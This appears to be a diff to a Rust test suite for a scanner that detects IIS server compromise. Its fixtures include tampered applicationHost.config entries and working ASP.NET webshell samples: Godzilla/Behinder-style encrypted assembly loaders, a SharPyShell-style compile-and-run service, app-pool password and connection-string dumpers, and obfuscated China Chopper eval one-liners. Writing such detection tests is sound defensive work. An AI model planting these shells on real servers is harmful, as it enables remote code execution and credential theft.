@@ -390,6 +390,118 @@ fn iis_config_tampering() {
 }
 
 #[test]
+fn config_checks_apply_to_the_live_configuration_and_served_web_configs_only() {
+    // The same tampered configuration as a copy in a web application's test data, a backup
+    // and a data file with a .config name: none of them configures IIS.
+    let apphost = r#"<configuration><system.applicationHost><sites><site name="s" id="1"><application path="/zoo"><virtualDirectory path="/" physicalPath="C:\ProgramData\ZOO" /></application></site></sites></system.applicationHost><system.webServer><globalModules><add name="Helper" image="C:\Users\Public\h.dll" /></globalModules><handlers><add name="x" path="*.xyz" verb="*" modules="CgiModule" scriptProcessor="C:\Windows\System32\cmd.exe" /></handlers></system.webServer></configuration>"#;
+    let web = r#"<configuration><system.webServer><globalModules><add name="Helper" image="C:\Users\Public\h.dll" /></globalModules><handlers><add name="x" path="*.xyz" verb="*" modules="CgiModule" scriptProcessor="C:\Windows\System32\cmd.exe" /></handlers></system.webServer></configuration>"#;
+    let t = Tree::new();
+    t.write(
+        "inetpub/wwwroot/app/tests/data/applicationHost.config",
+        apphost,
+    )
+    .write("ProgramData/backup/applicationHost.config", apphost)
+    .write("inetpub/wwwroot/app/App_Data/site.db.config", apphost)
+    .write("ProgramData/backup/web.config", web)
+    .write(
+        "Windows/System32/inetsrv/config/applicationHost.config",
+        apphost,
+    )
+    .write("inetpub/wwwroot/app/web.config", web);
+    let r = scan_default(&t);
+    for copy in [
+        "inetpub/wwwroot/app/tests/data/applicationHost.config",
+        "ProgramData/backup/applicationHost.config",
+        "inetpub/wwwroot/app/App_Data/site.db.config",
+        "ProgramData/backup/web.config",
+    ] {
+        assert!(
+            ids_for(&r, copy).is_empty(),
+            "{copy}: {:?}",
+            ids_for(&r, copy)
+        );
+    }
+    assert_eq!(
+        ids_for(&r, "Windows/System32/inetsrv/config/applicationHost.config"),
+        ["EXH-FC-001", "EXH-FC-002", "EXH-FY-040"]
+    );
+    assert_eq!(
+        ids_for(&r, "inetpub/wwwroot/app/web.config"),
+        ["EXH-FC-002", "EXH-FY-040"]
+    );
+}
+
+#[test]
+fn third_wave_families_in_every_server_file_type_and_their_look_alikes() {
+    let t = Tree::new();
+    let w = |name: &str, body: &str| {
+        t.write(&format!("inetpub/wwwroot/app/{name}"), body);
+    };
+    // EXH-FY-028: Godzilla/Behinder design (AES under an MD5-derived key, assembly kept in the
+    // session) in a handler, a WCF service and an App_Code class, where the input is an
+    // argument rather than Request.
+    let godzilla = "string key = \"3c6e0b8a9c15224a\"; byte[] Dec(byte[] d){ var a = new System.Security.Cryptography.RijndaelManaged(); return a.CreateDecryptor(System.Text.Encoding.Default.GetBytes(key), System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(d, 0, d.Length); } object Run(byte[] data){ data = Dec(data); if (HttpContext.Current.Session[\"payload\"] == null) { HttpContext.Current.Session[\"payload\"] = System.Reflection.Assembly.Load(data); return null; } object o = ((System.Reflection.Assembly)HttpContext.Current.Session[\"payload\"]).CreateInstance(\"LY\"); o.Equals(data); return o; }";
+    w("gz.ashx", &format!("<%@ WebHandler Language=\"C#\" Class=\"H\" %>using System.Web; public class H : IHttpHandler, System.Web.SessionState.IRequiresSessionState {{ public void ProcessRequest(HttpContext c) {{ Run(c.Request.BinaryRead(c.Request.ContentLength)); }} {godzilla} public bool IsReusable {{ get {{ return false; }} }} }}"));
+    w("gz.svc", &format!("<%@ ServiceHost Language=\"C#\" Service=\"S\" %>[System.ServiceModel.ServiceContract] public class S {{ [System.ServiceModel.OperationContract] public object Call(byte[] b) {{ return Run(b); }} {godzilla} }}"));
+    w(
+        "App_Code/Cache.cs",
+        &format!("using System.Web; public class Cache {{ {godzilla} }}"),
+    );
+    // EXH-FY-029: SharPyShell-style: base64 + GZip (or XOR) + compile or load, web-facing.
+    w("sp.asmx", "<%@ WebService Language=\"C#\" Class=\"W\" %>using System.IO; using System.IO.Compression; public class W : System.Web.Services.WebService { [System.Web.Services.WebMethod] public string X(string s) { var z = new GZipStream(new MemoryStream(System.Convert.FromBase64String(s)), CompressionMode.Decompress); var src = new StreamReader(z).ReadToEnd(); var p = new Microsoft.CSharp.CSharpCodeProvider(); var r = p.CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters(), src); return (string)r.CompiledAssembly.CreateInstance(\"M\").GetType().GetMethod(\"R\").Invoke(null, null); } }");
+    // EXH-FY-034: tool page reading IIS application-pool passwords; connection string on demand.
+    w("iis.aspx", "<%@ Page Language=\"C#\" %><%@ Import Namespace=\"Microsoft.Web.Administration\" %><script runat=\"server\">void Page_Load(){ foreach (var p in new ServerManager().ApplicationPools) Response.Write(p.Name + \" \" + p.ProcessModel.UserName + \" \" + p.ProcessModel.Password); }</script>");
+    w("cs.aspx", "<%@ Page Language=\"C#\" %><script runat=\"server\">void Go(object s, EventArgs e){ txtOut.Text = ConfigurationManager.ConnectionStrings[txtName.Text].ConnectionString; }</script>");
+    // EXH-FY-035: component probe page.
+    w("probe.aspx", "<%@ Page Language=\"JScript\" %><% var list = [\"WScript.Shell\",\"Shell.Application\",\"Scripting.FileSystemObject\",\"ADODB.Stream\",\"WScript.Network\",\"MSXML2.ServerXMLHTTP\",\"JMail.SmtpMail\"]; for (var i in list) { try { Server.CreateObject(list[i]); } catch (e) {} } %>");
+    // EXH-FY-036: key-gated uploader into its own folder.
+    w("up3.aspx", "<%@ Page Language=\"C#\" %><script runat=\"server\">const string KEY = \"k3y\"; void Page_Load(){ if (Request.Params[\"authkey\"] != KEY) return; var f = Request.Files[0]; var fi = new System.IO.FileInfo(Request.PhysicalPath); using (var fs = new System.IO.FileStream(System.IO.Path.Combine(fi.DirectoryName, System.IO.Path.GetFileName(f.FileName)), System.IO.FileMode.Create)) { f.InputStream.CopyTo(fs); } }</script>");
+    // EXH-FY-014: obfuscated China Chopper one-liners (base64 of a variable with the context
+    // word cut in pieces; the whole call built from comment-padded fragments).
+    w("cc1.aspx", "<%@ Page Language=\"Jscript\" validateRequest=\"false\" %><%var c=new System.Text.UTF8Encoding;var k=Request[\"x\"];eval(c.GetString(System.Convert.FromBase64String(k)),\"un\"+\"safe\");%>");
+    w("cc2.aspx", "<%@ Page Language = Jscript %><%var/*-/*-*/P/*-/*-*/=/*-/*-*/\"e\"+\"v\"+\"a\"+\"l\"+\"(\"+\"R\"+\"e\"+\"q\"+\"u\"+\"e\"+\"s\"+\"t\"+\"[0-2-5]\"+\",\"+\"\\\"unsafe\\\"\"+\")\";eval(P,\"u\"+\"n\"+\"s\"+\"a\"+\"f\"+\"e\");%>");
+    // EXH-FY-037: keyed loader stub.
+    w("stub.aspx", "<script language=\"C#\" runat=\"server\">\nAcme.Web.Loader l = new Acme.Web.Loader(\"9f86d081884c7d65\");\n</script>");
+    // Look-alikes: an application caching an assembly it loads by name, decrypting a cookie
+    // with a configured key; a component check of one ProgID; an upload page storing under
+    // MapPath("~/uploads"); a page using a named connection string; a constructor with a
+    // GUID; a download handler inside a folder of its own.
+    w("ok1.ashx", "<%@ WebHandler Language=\"C#\" Class=\"H\" %>public class H : System.Web.IHttpHandler, System.Web.SessionState.IRequiresSessionState { public void ProcessRequest(System.Web.HttpContext c) { var aes = System.Security.Cryptography.Aes.Create(); aes.Key = System.Text.Encoding.UTF8.GetBytes(System.Configuration.ConfigurationManager.AppSettings[\"CookieKey\"]); var d = aes.CreateDecryptor(); c.Session[\"plugin\"] = System.Reflection.Assembly.Load(\"Contoso.Plugins\"); } public bool IsReusable { get { return false; } } }");
+    w("ok2.asmx", "<%@ WebService Language=\"C#\" Class=\"W\" %>public class W : System.Web.Services.WebService { [System.Web.Services.WebMethod] public byte[] Zip(string s) { var ms = new System.IO.MemoryStream(); using (var z = new System.IO.Compression.GZipStream(ms, System.IO.Compression.CompressionMode.Compress)) { var b = System.Convert.FromBase64String(s); z.Write(b, 0, b.Length); } return ms.ToArray(); } }");
+    w("ok3.aspx", "<%@ Page Language=\"VB\" %><% Dim o = Server.CreateObject(\"Scripting.FileSystemObject\") %>");
+    w("ok4.aspx", "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(){ if (Request.Form[\"token\"] != Session[\"token\"] as string) return; var f = Request.Files[0]; f.SaveAs(Server.MapPath(\"~/uploads/\") + System.Guid.NewGuid() + \".bin\"); }</script>");
+    w("ok5.aspx", "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(){ grid.DataSource = new SqlDataSource(ConfigurationManager.ConnectionStrings[\"Main\"].ConnectionString, \"select 1\"); }</script>");
+    w("ok6.aspx", "<script language=\"C#\" runat=\"server\">\nvar id = new System.Guid(\"9f86d081-884c-7d65-9f86-d081884c7d65\"); var w = new Acme.Widget(\"title\");\n</script>");
+    w("ok7.ashx", "<%@ WebHandler Language=\"C#\" Class=\"D\" %>public class D : System.Web.IHttpHandler { public void ProcessRequest(System.Web.HttpContext c) { if (c.Request[\"key\"] != \"public\") return; string f = c.Server.MapPath(\"~/files/\" + System.IO.Path.GetFileName(c.Request[\"f\"])); c.Response.WriteFile(f); foreach (var x in System.IO.Directory.GetFiles(c.Server.MapPath(\"~/files\"))) c.Response.Write(x); } public bool IsReusable { get { return false; } } }");
+    let r = scan_default(&t);
+    for (name, id) in [
+        ("gz.ashx", "EXH-FY-028"),
+        ("gz.svc", "EXH-FY-028"),
+        ("App_Code/Cache.cs", "EXH-FY-028"),
+        ("sp.asmx", "EXH-FY-029"),
+        ("iis.aspx", "EXH-FY-034"),
+        ("cs.aspx", "EXH-FY-034"),
+        ("probe.aspx", "EXH-FY-035"),
+        ("up3.aspx", "EXH-FY-036"),
+        ("stub.aspx", "EXH-FY-037"),
+        ("cc1.aspx", "EXH-FY-014"),
+        ("cc2.aspx", "EXH-FY-014"),
+    ] {
+        let ids = ids_for(&r, &format!("inetpub/wwwroot/app/{name}"));
+        assert!(
+            ids.contains(&id.to_string()),
+            "{name}: expected {id}, got {ids:?}"
+        );
+    }
+    for name in [
+        "ok1.ashx", "ok2.asmx", "ok3.aspx", "ok4.aspx", "ok5.aspx", "ok6.aspx", "ok7.ashx",
+    ] {
+        let ids = ids_for(&r, &format!("inetpub/wwwroot/app/{name}"));
+        assert!(ids.is_empty(), "{name}: expected no finding, got {ids:?}");
+    }
+}
+
+#[test]
 fn iis_config_saved_as_utf16_is_read() {
     let t = Tree::new();
     let text = "<configuration>\r\n<virtualDirectory path=\"/who\" physicalPath=\"C:\\ProgramData\\WHO\" />\r\n</configuration>";
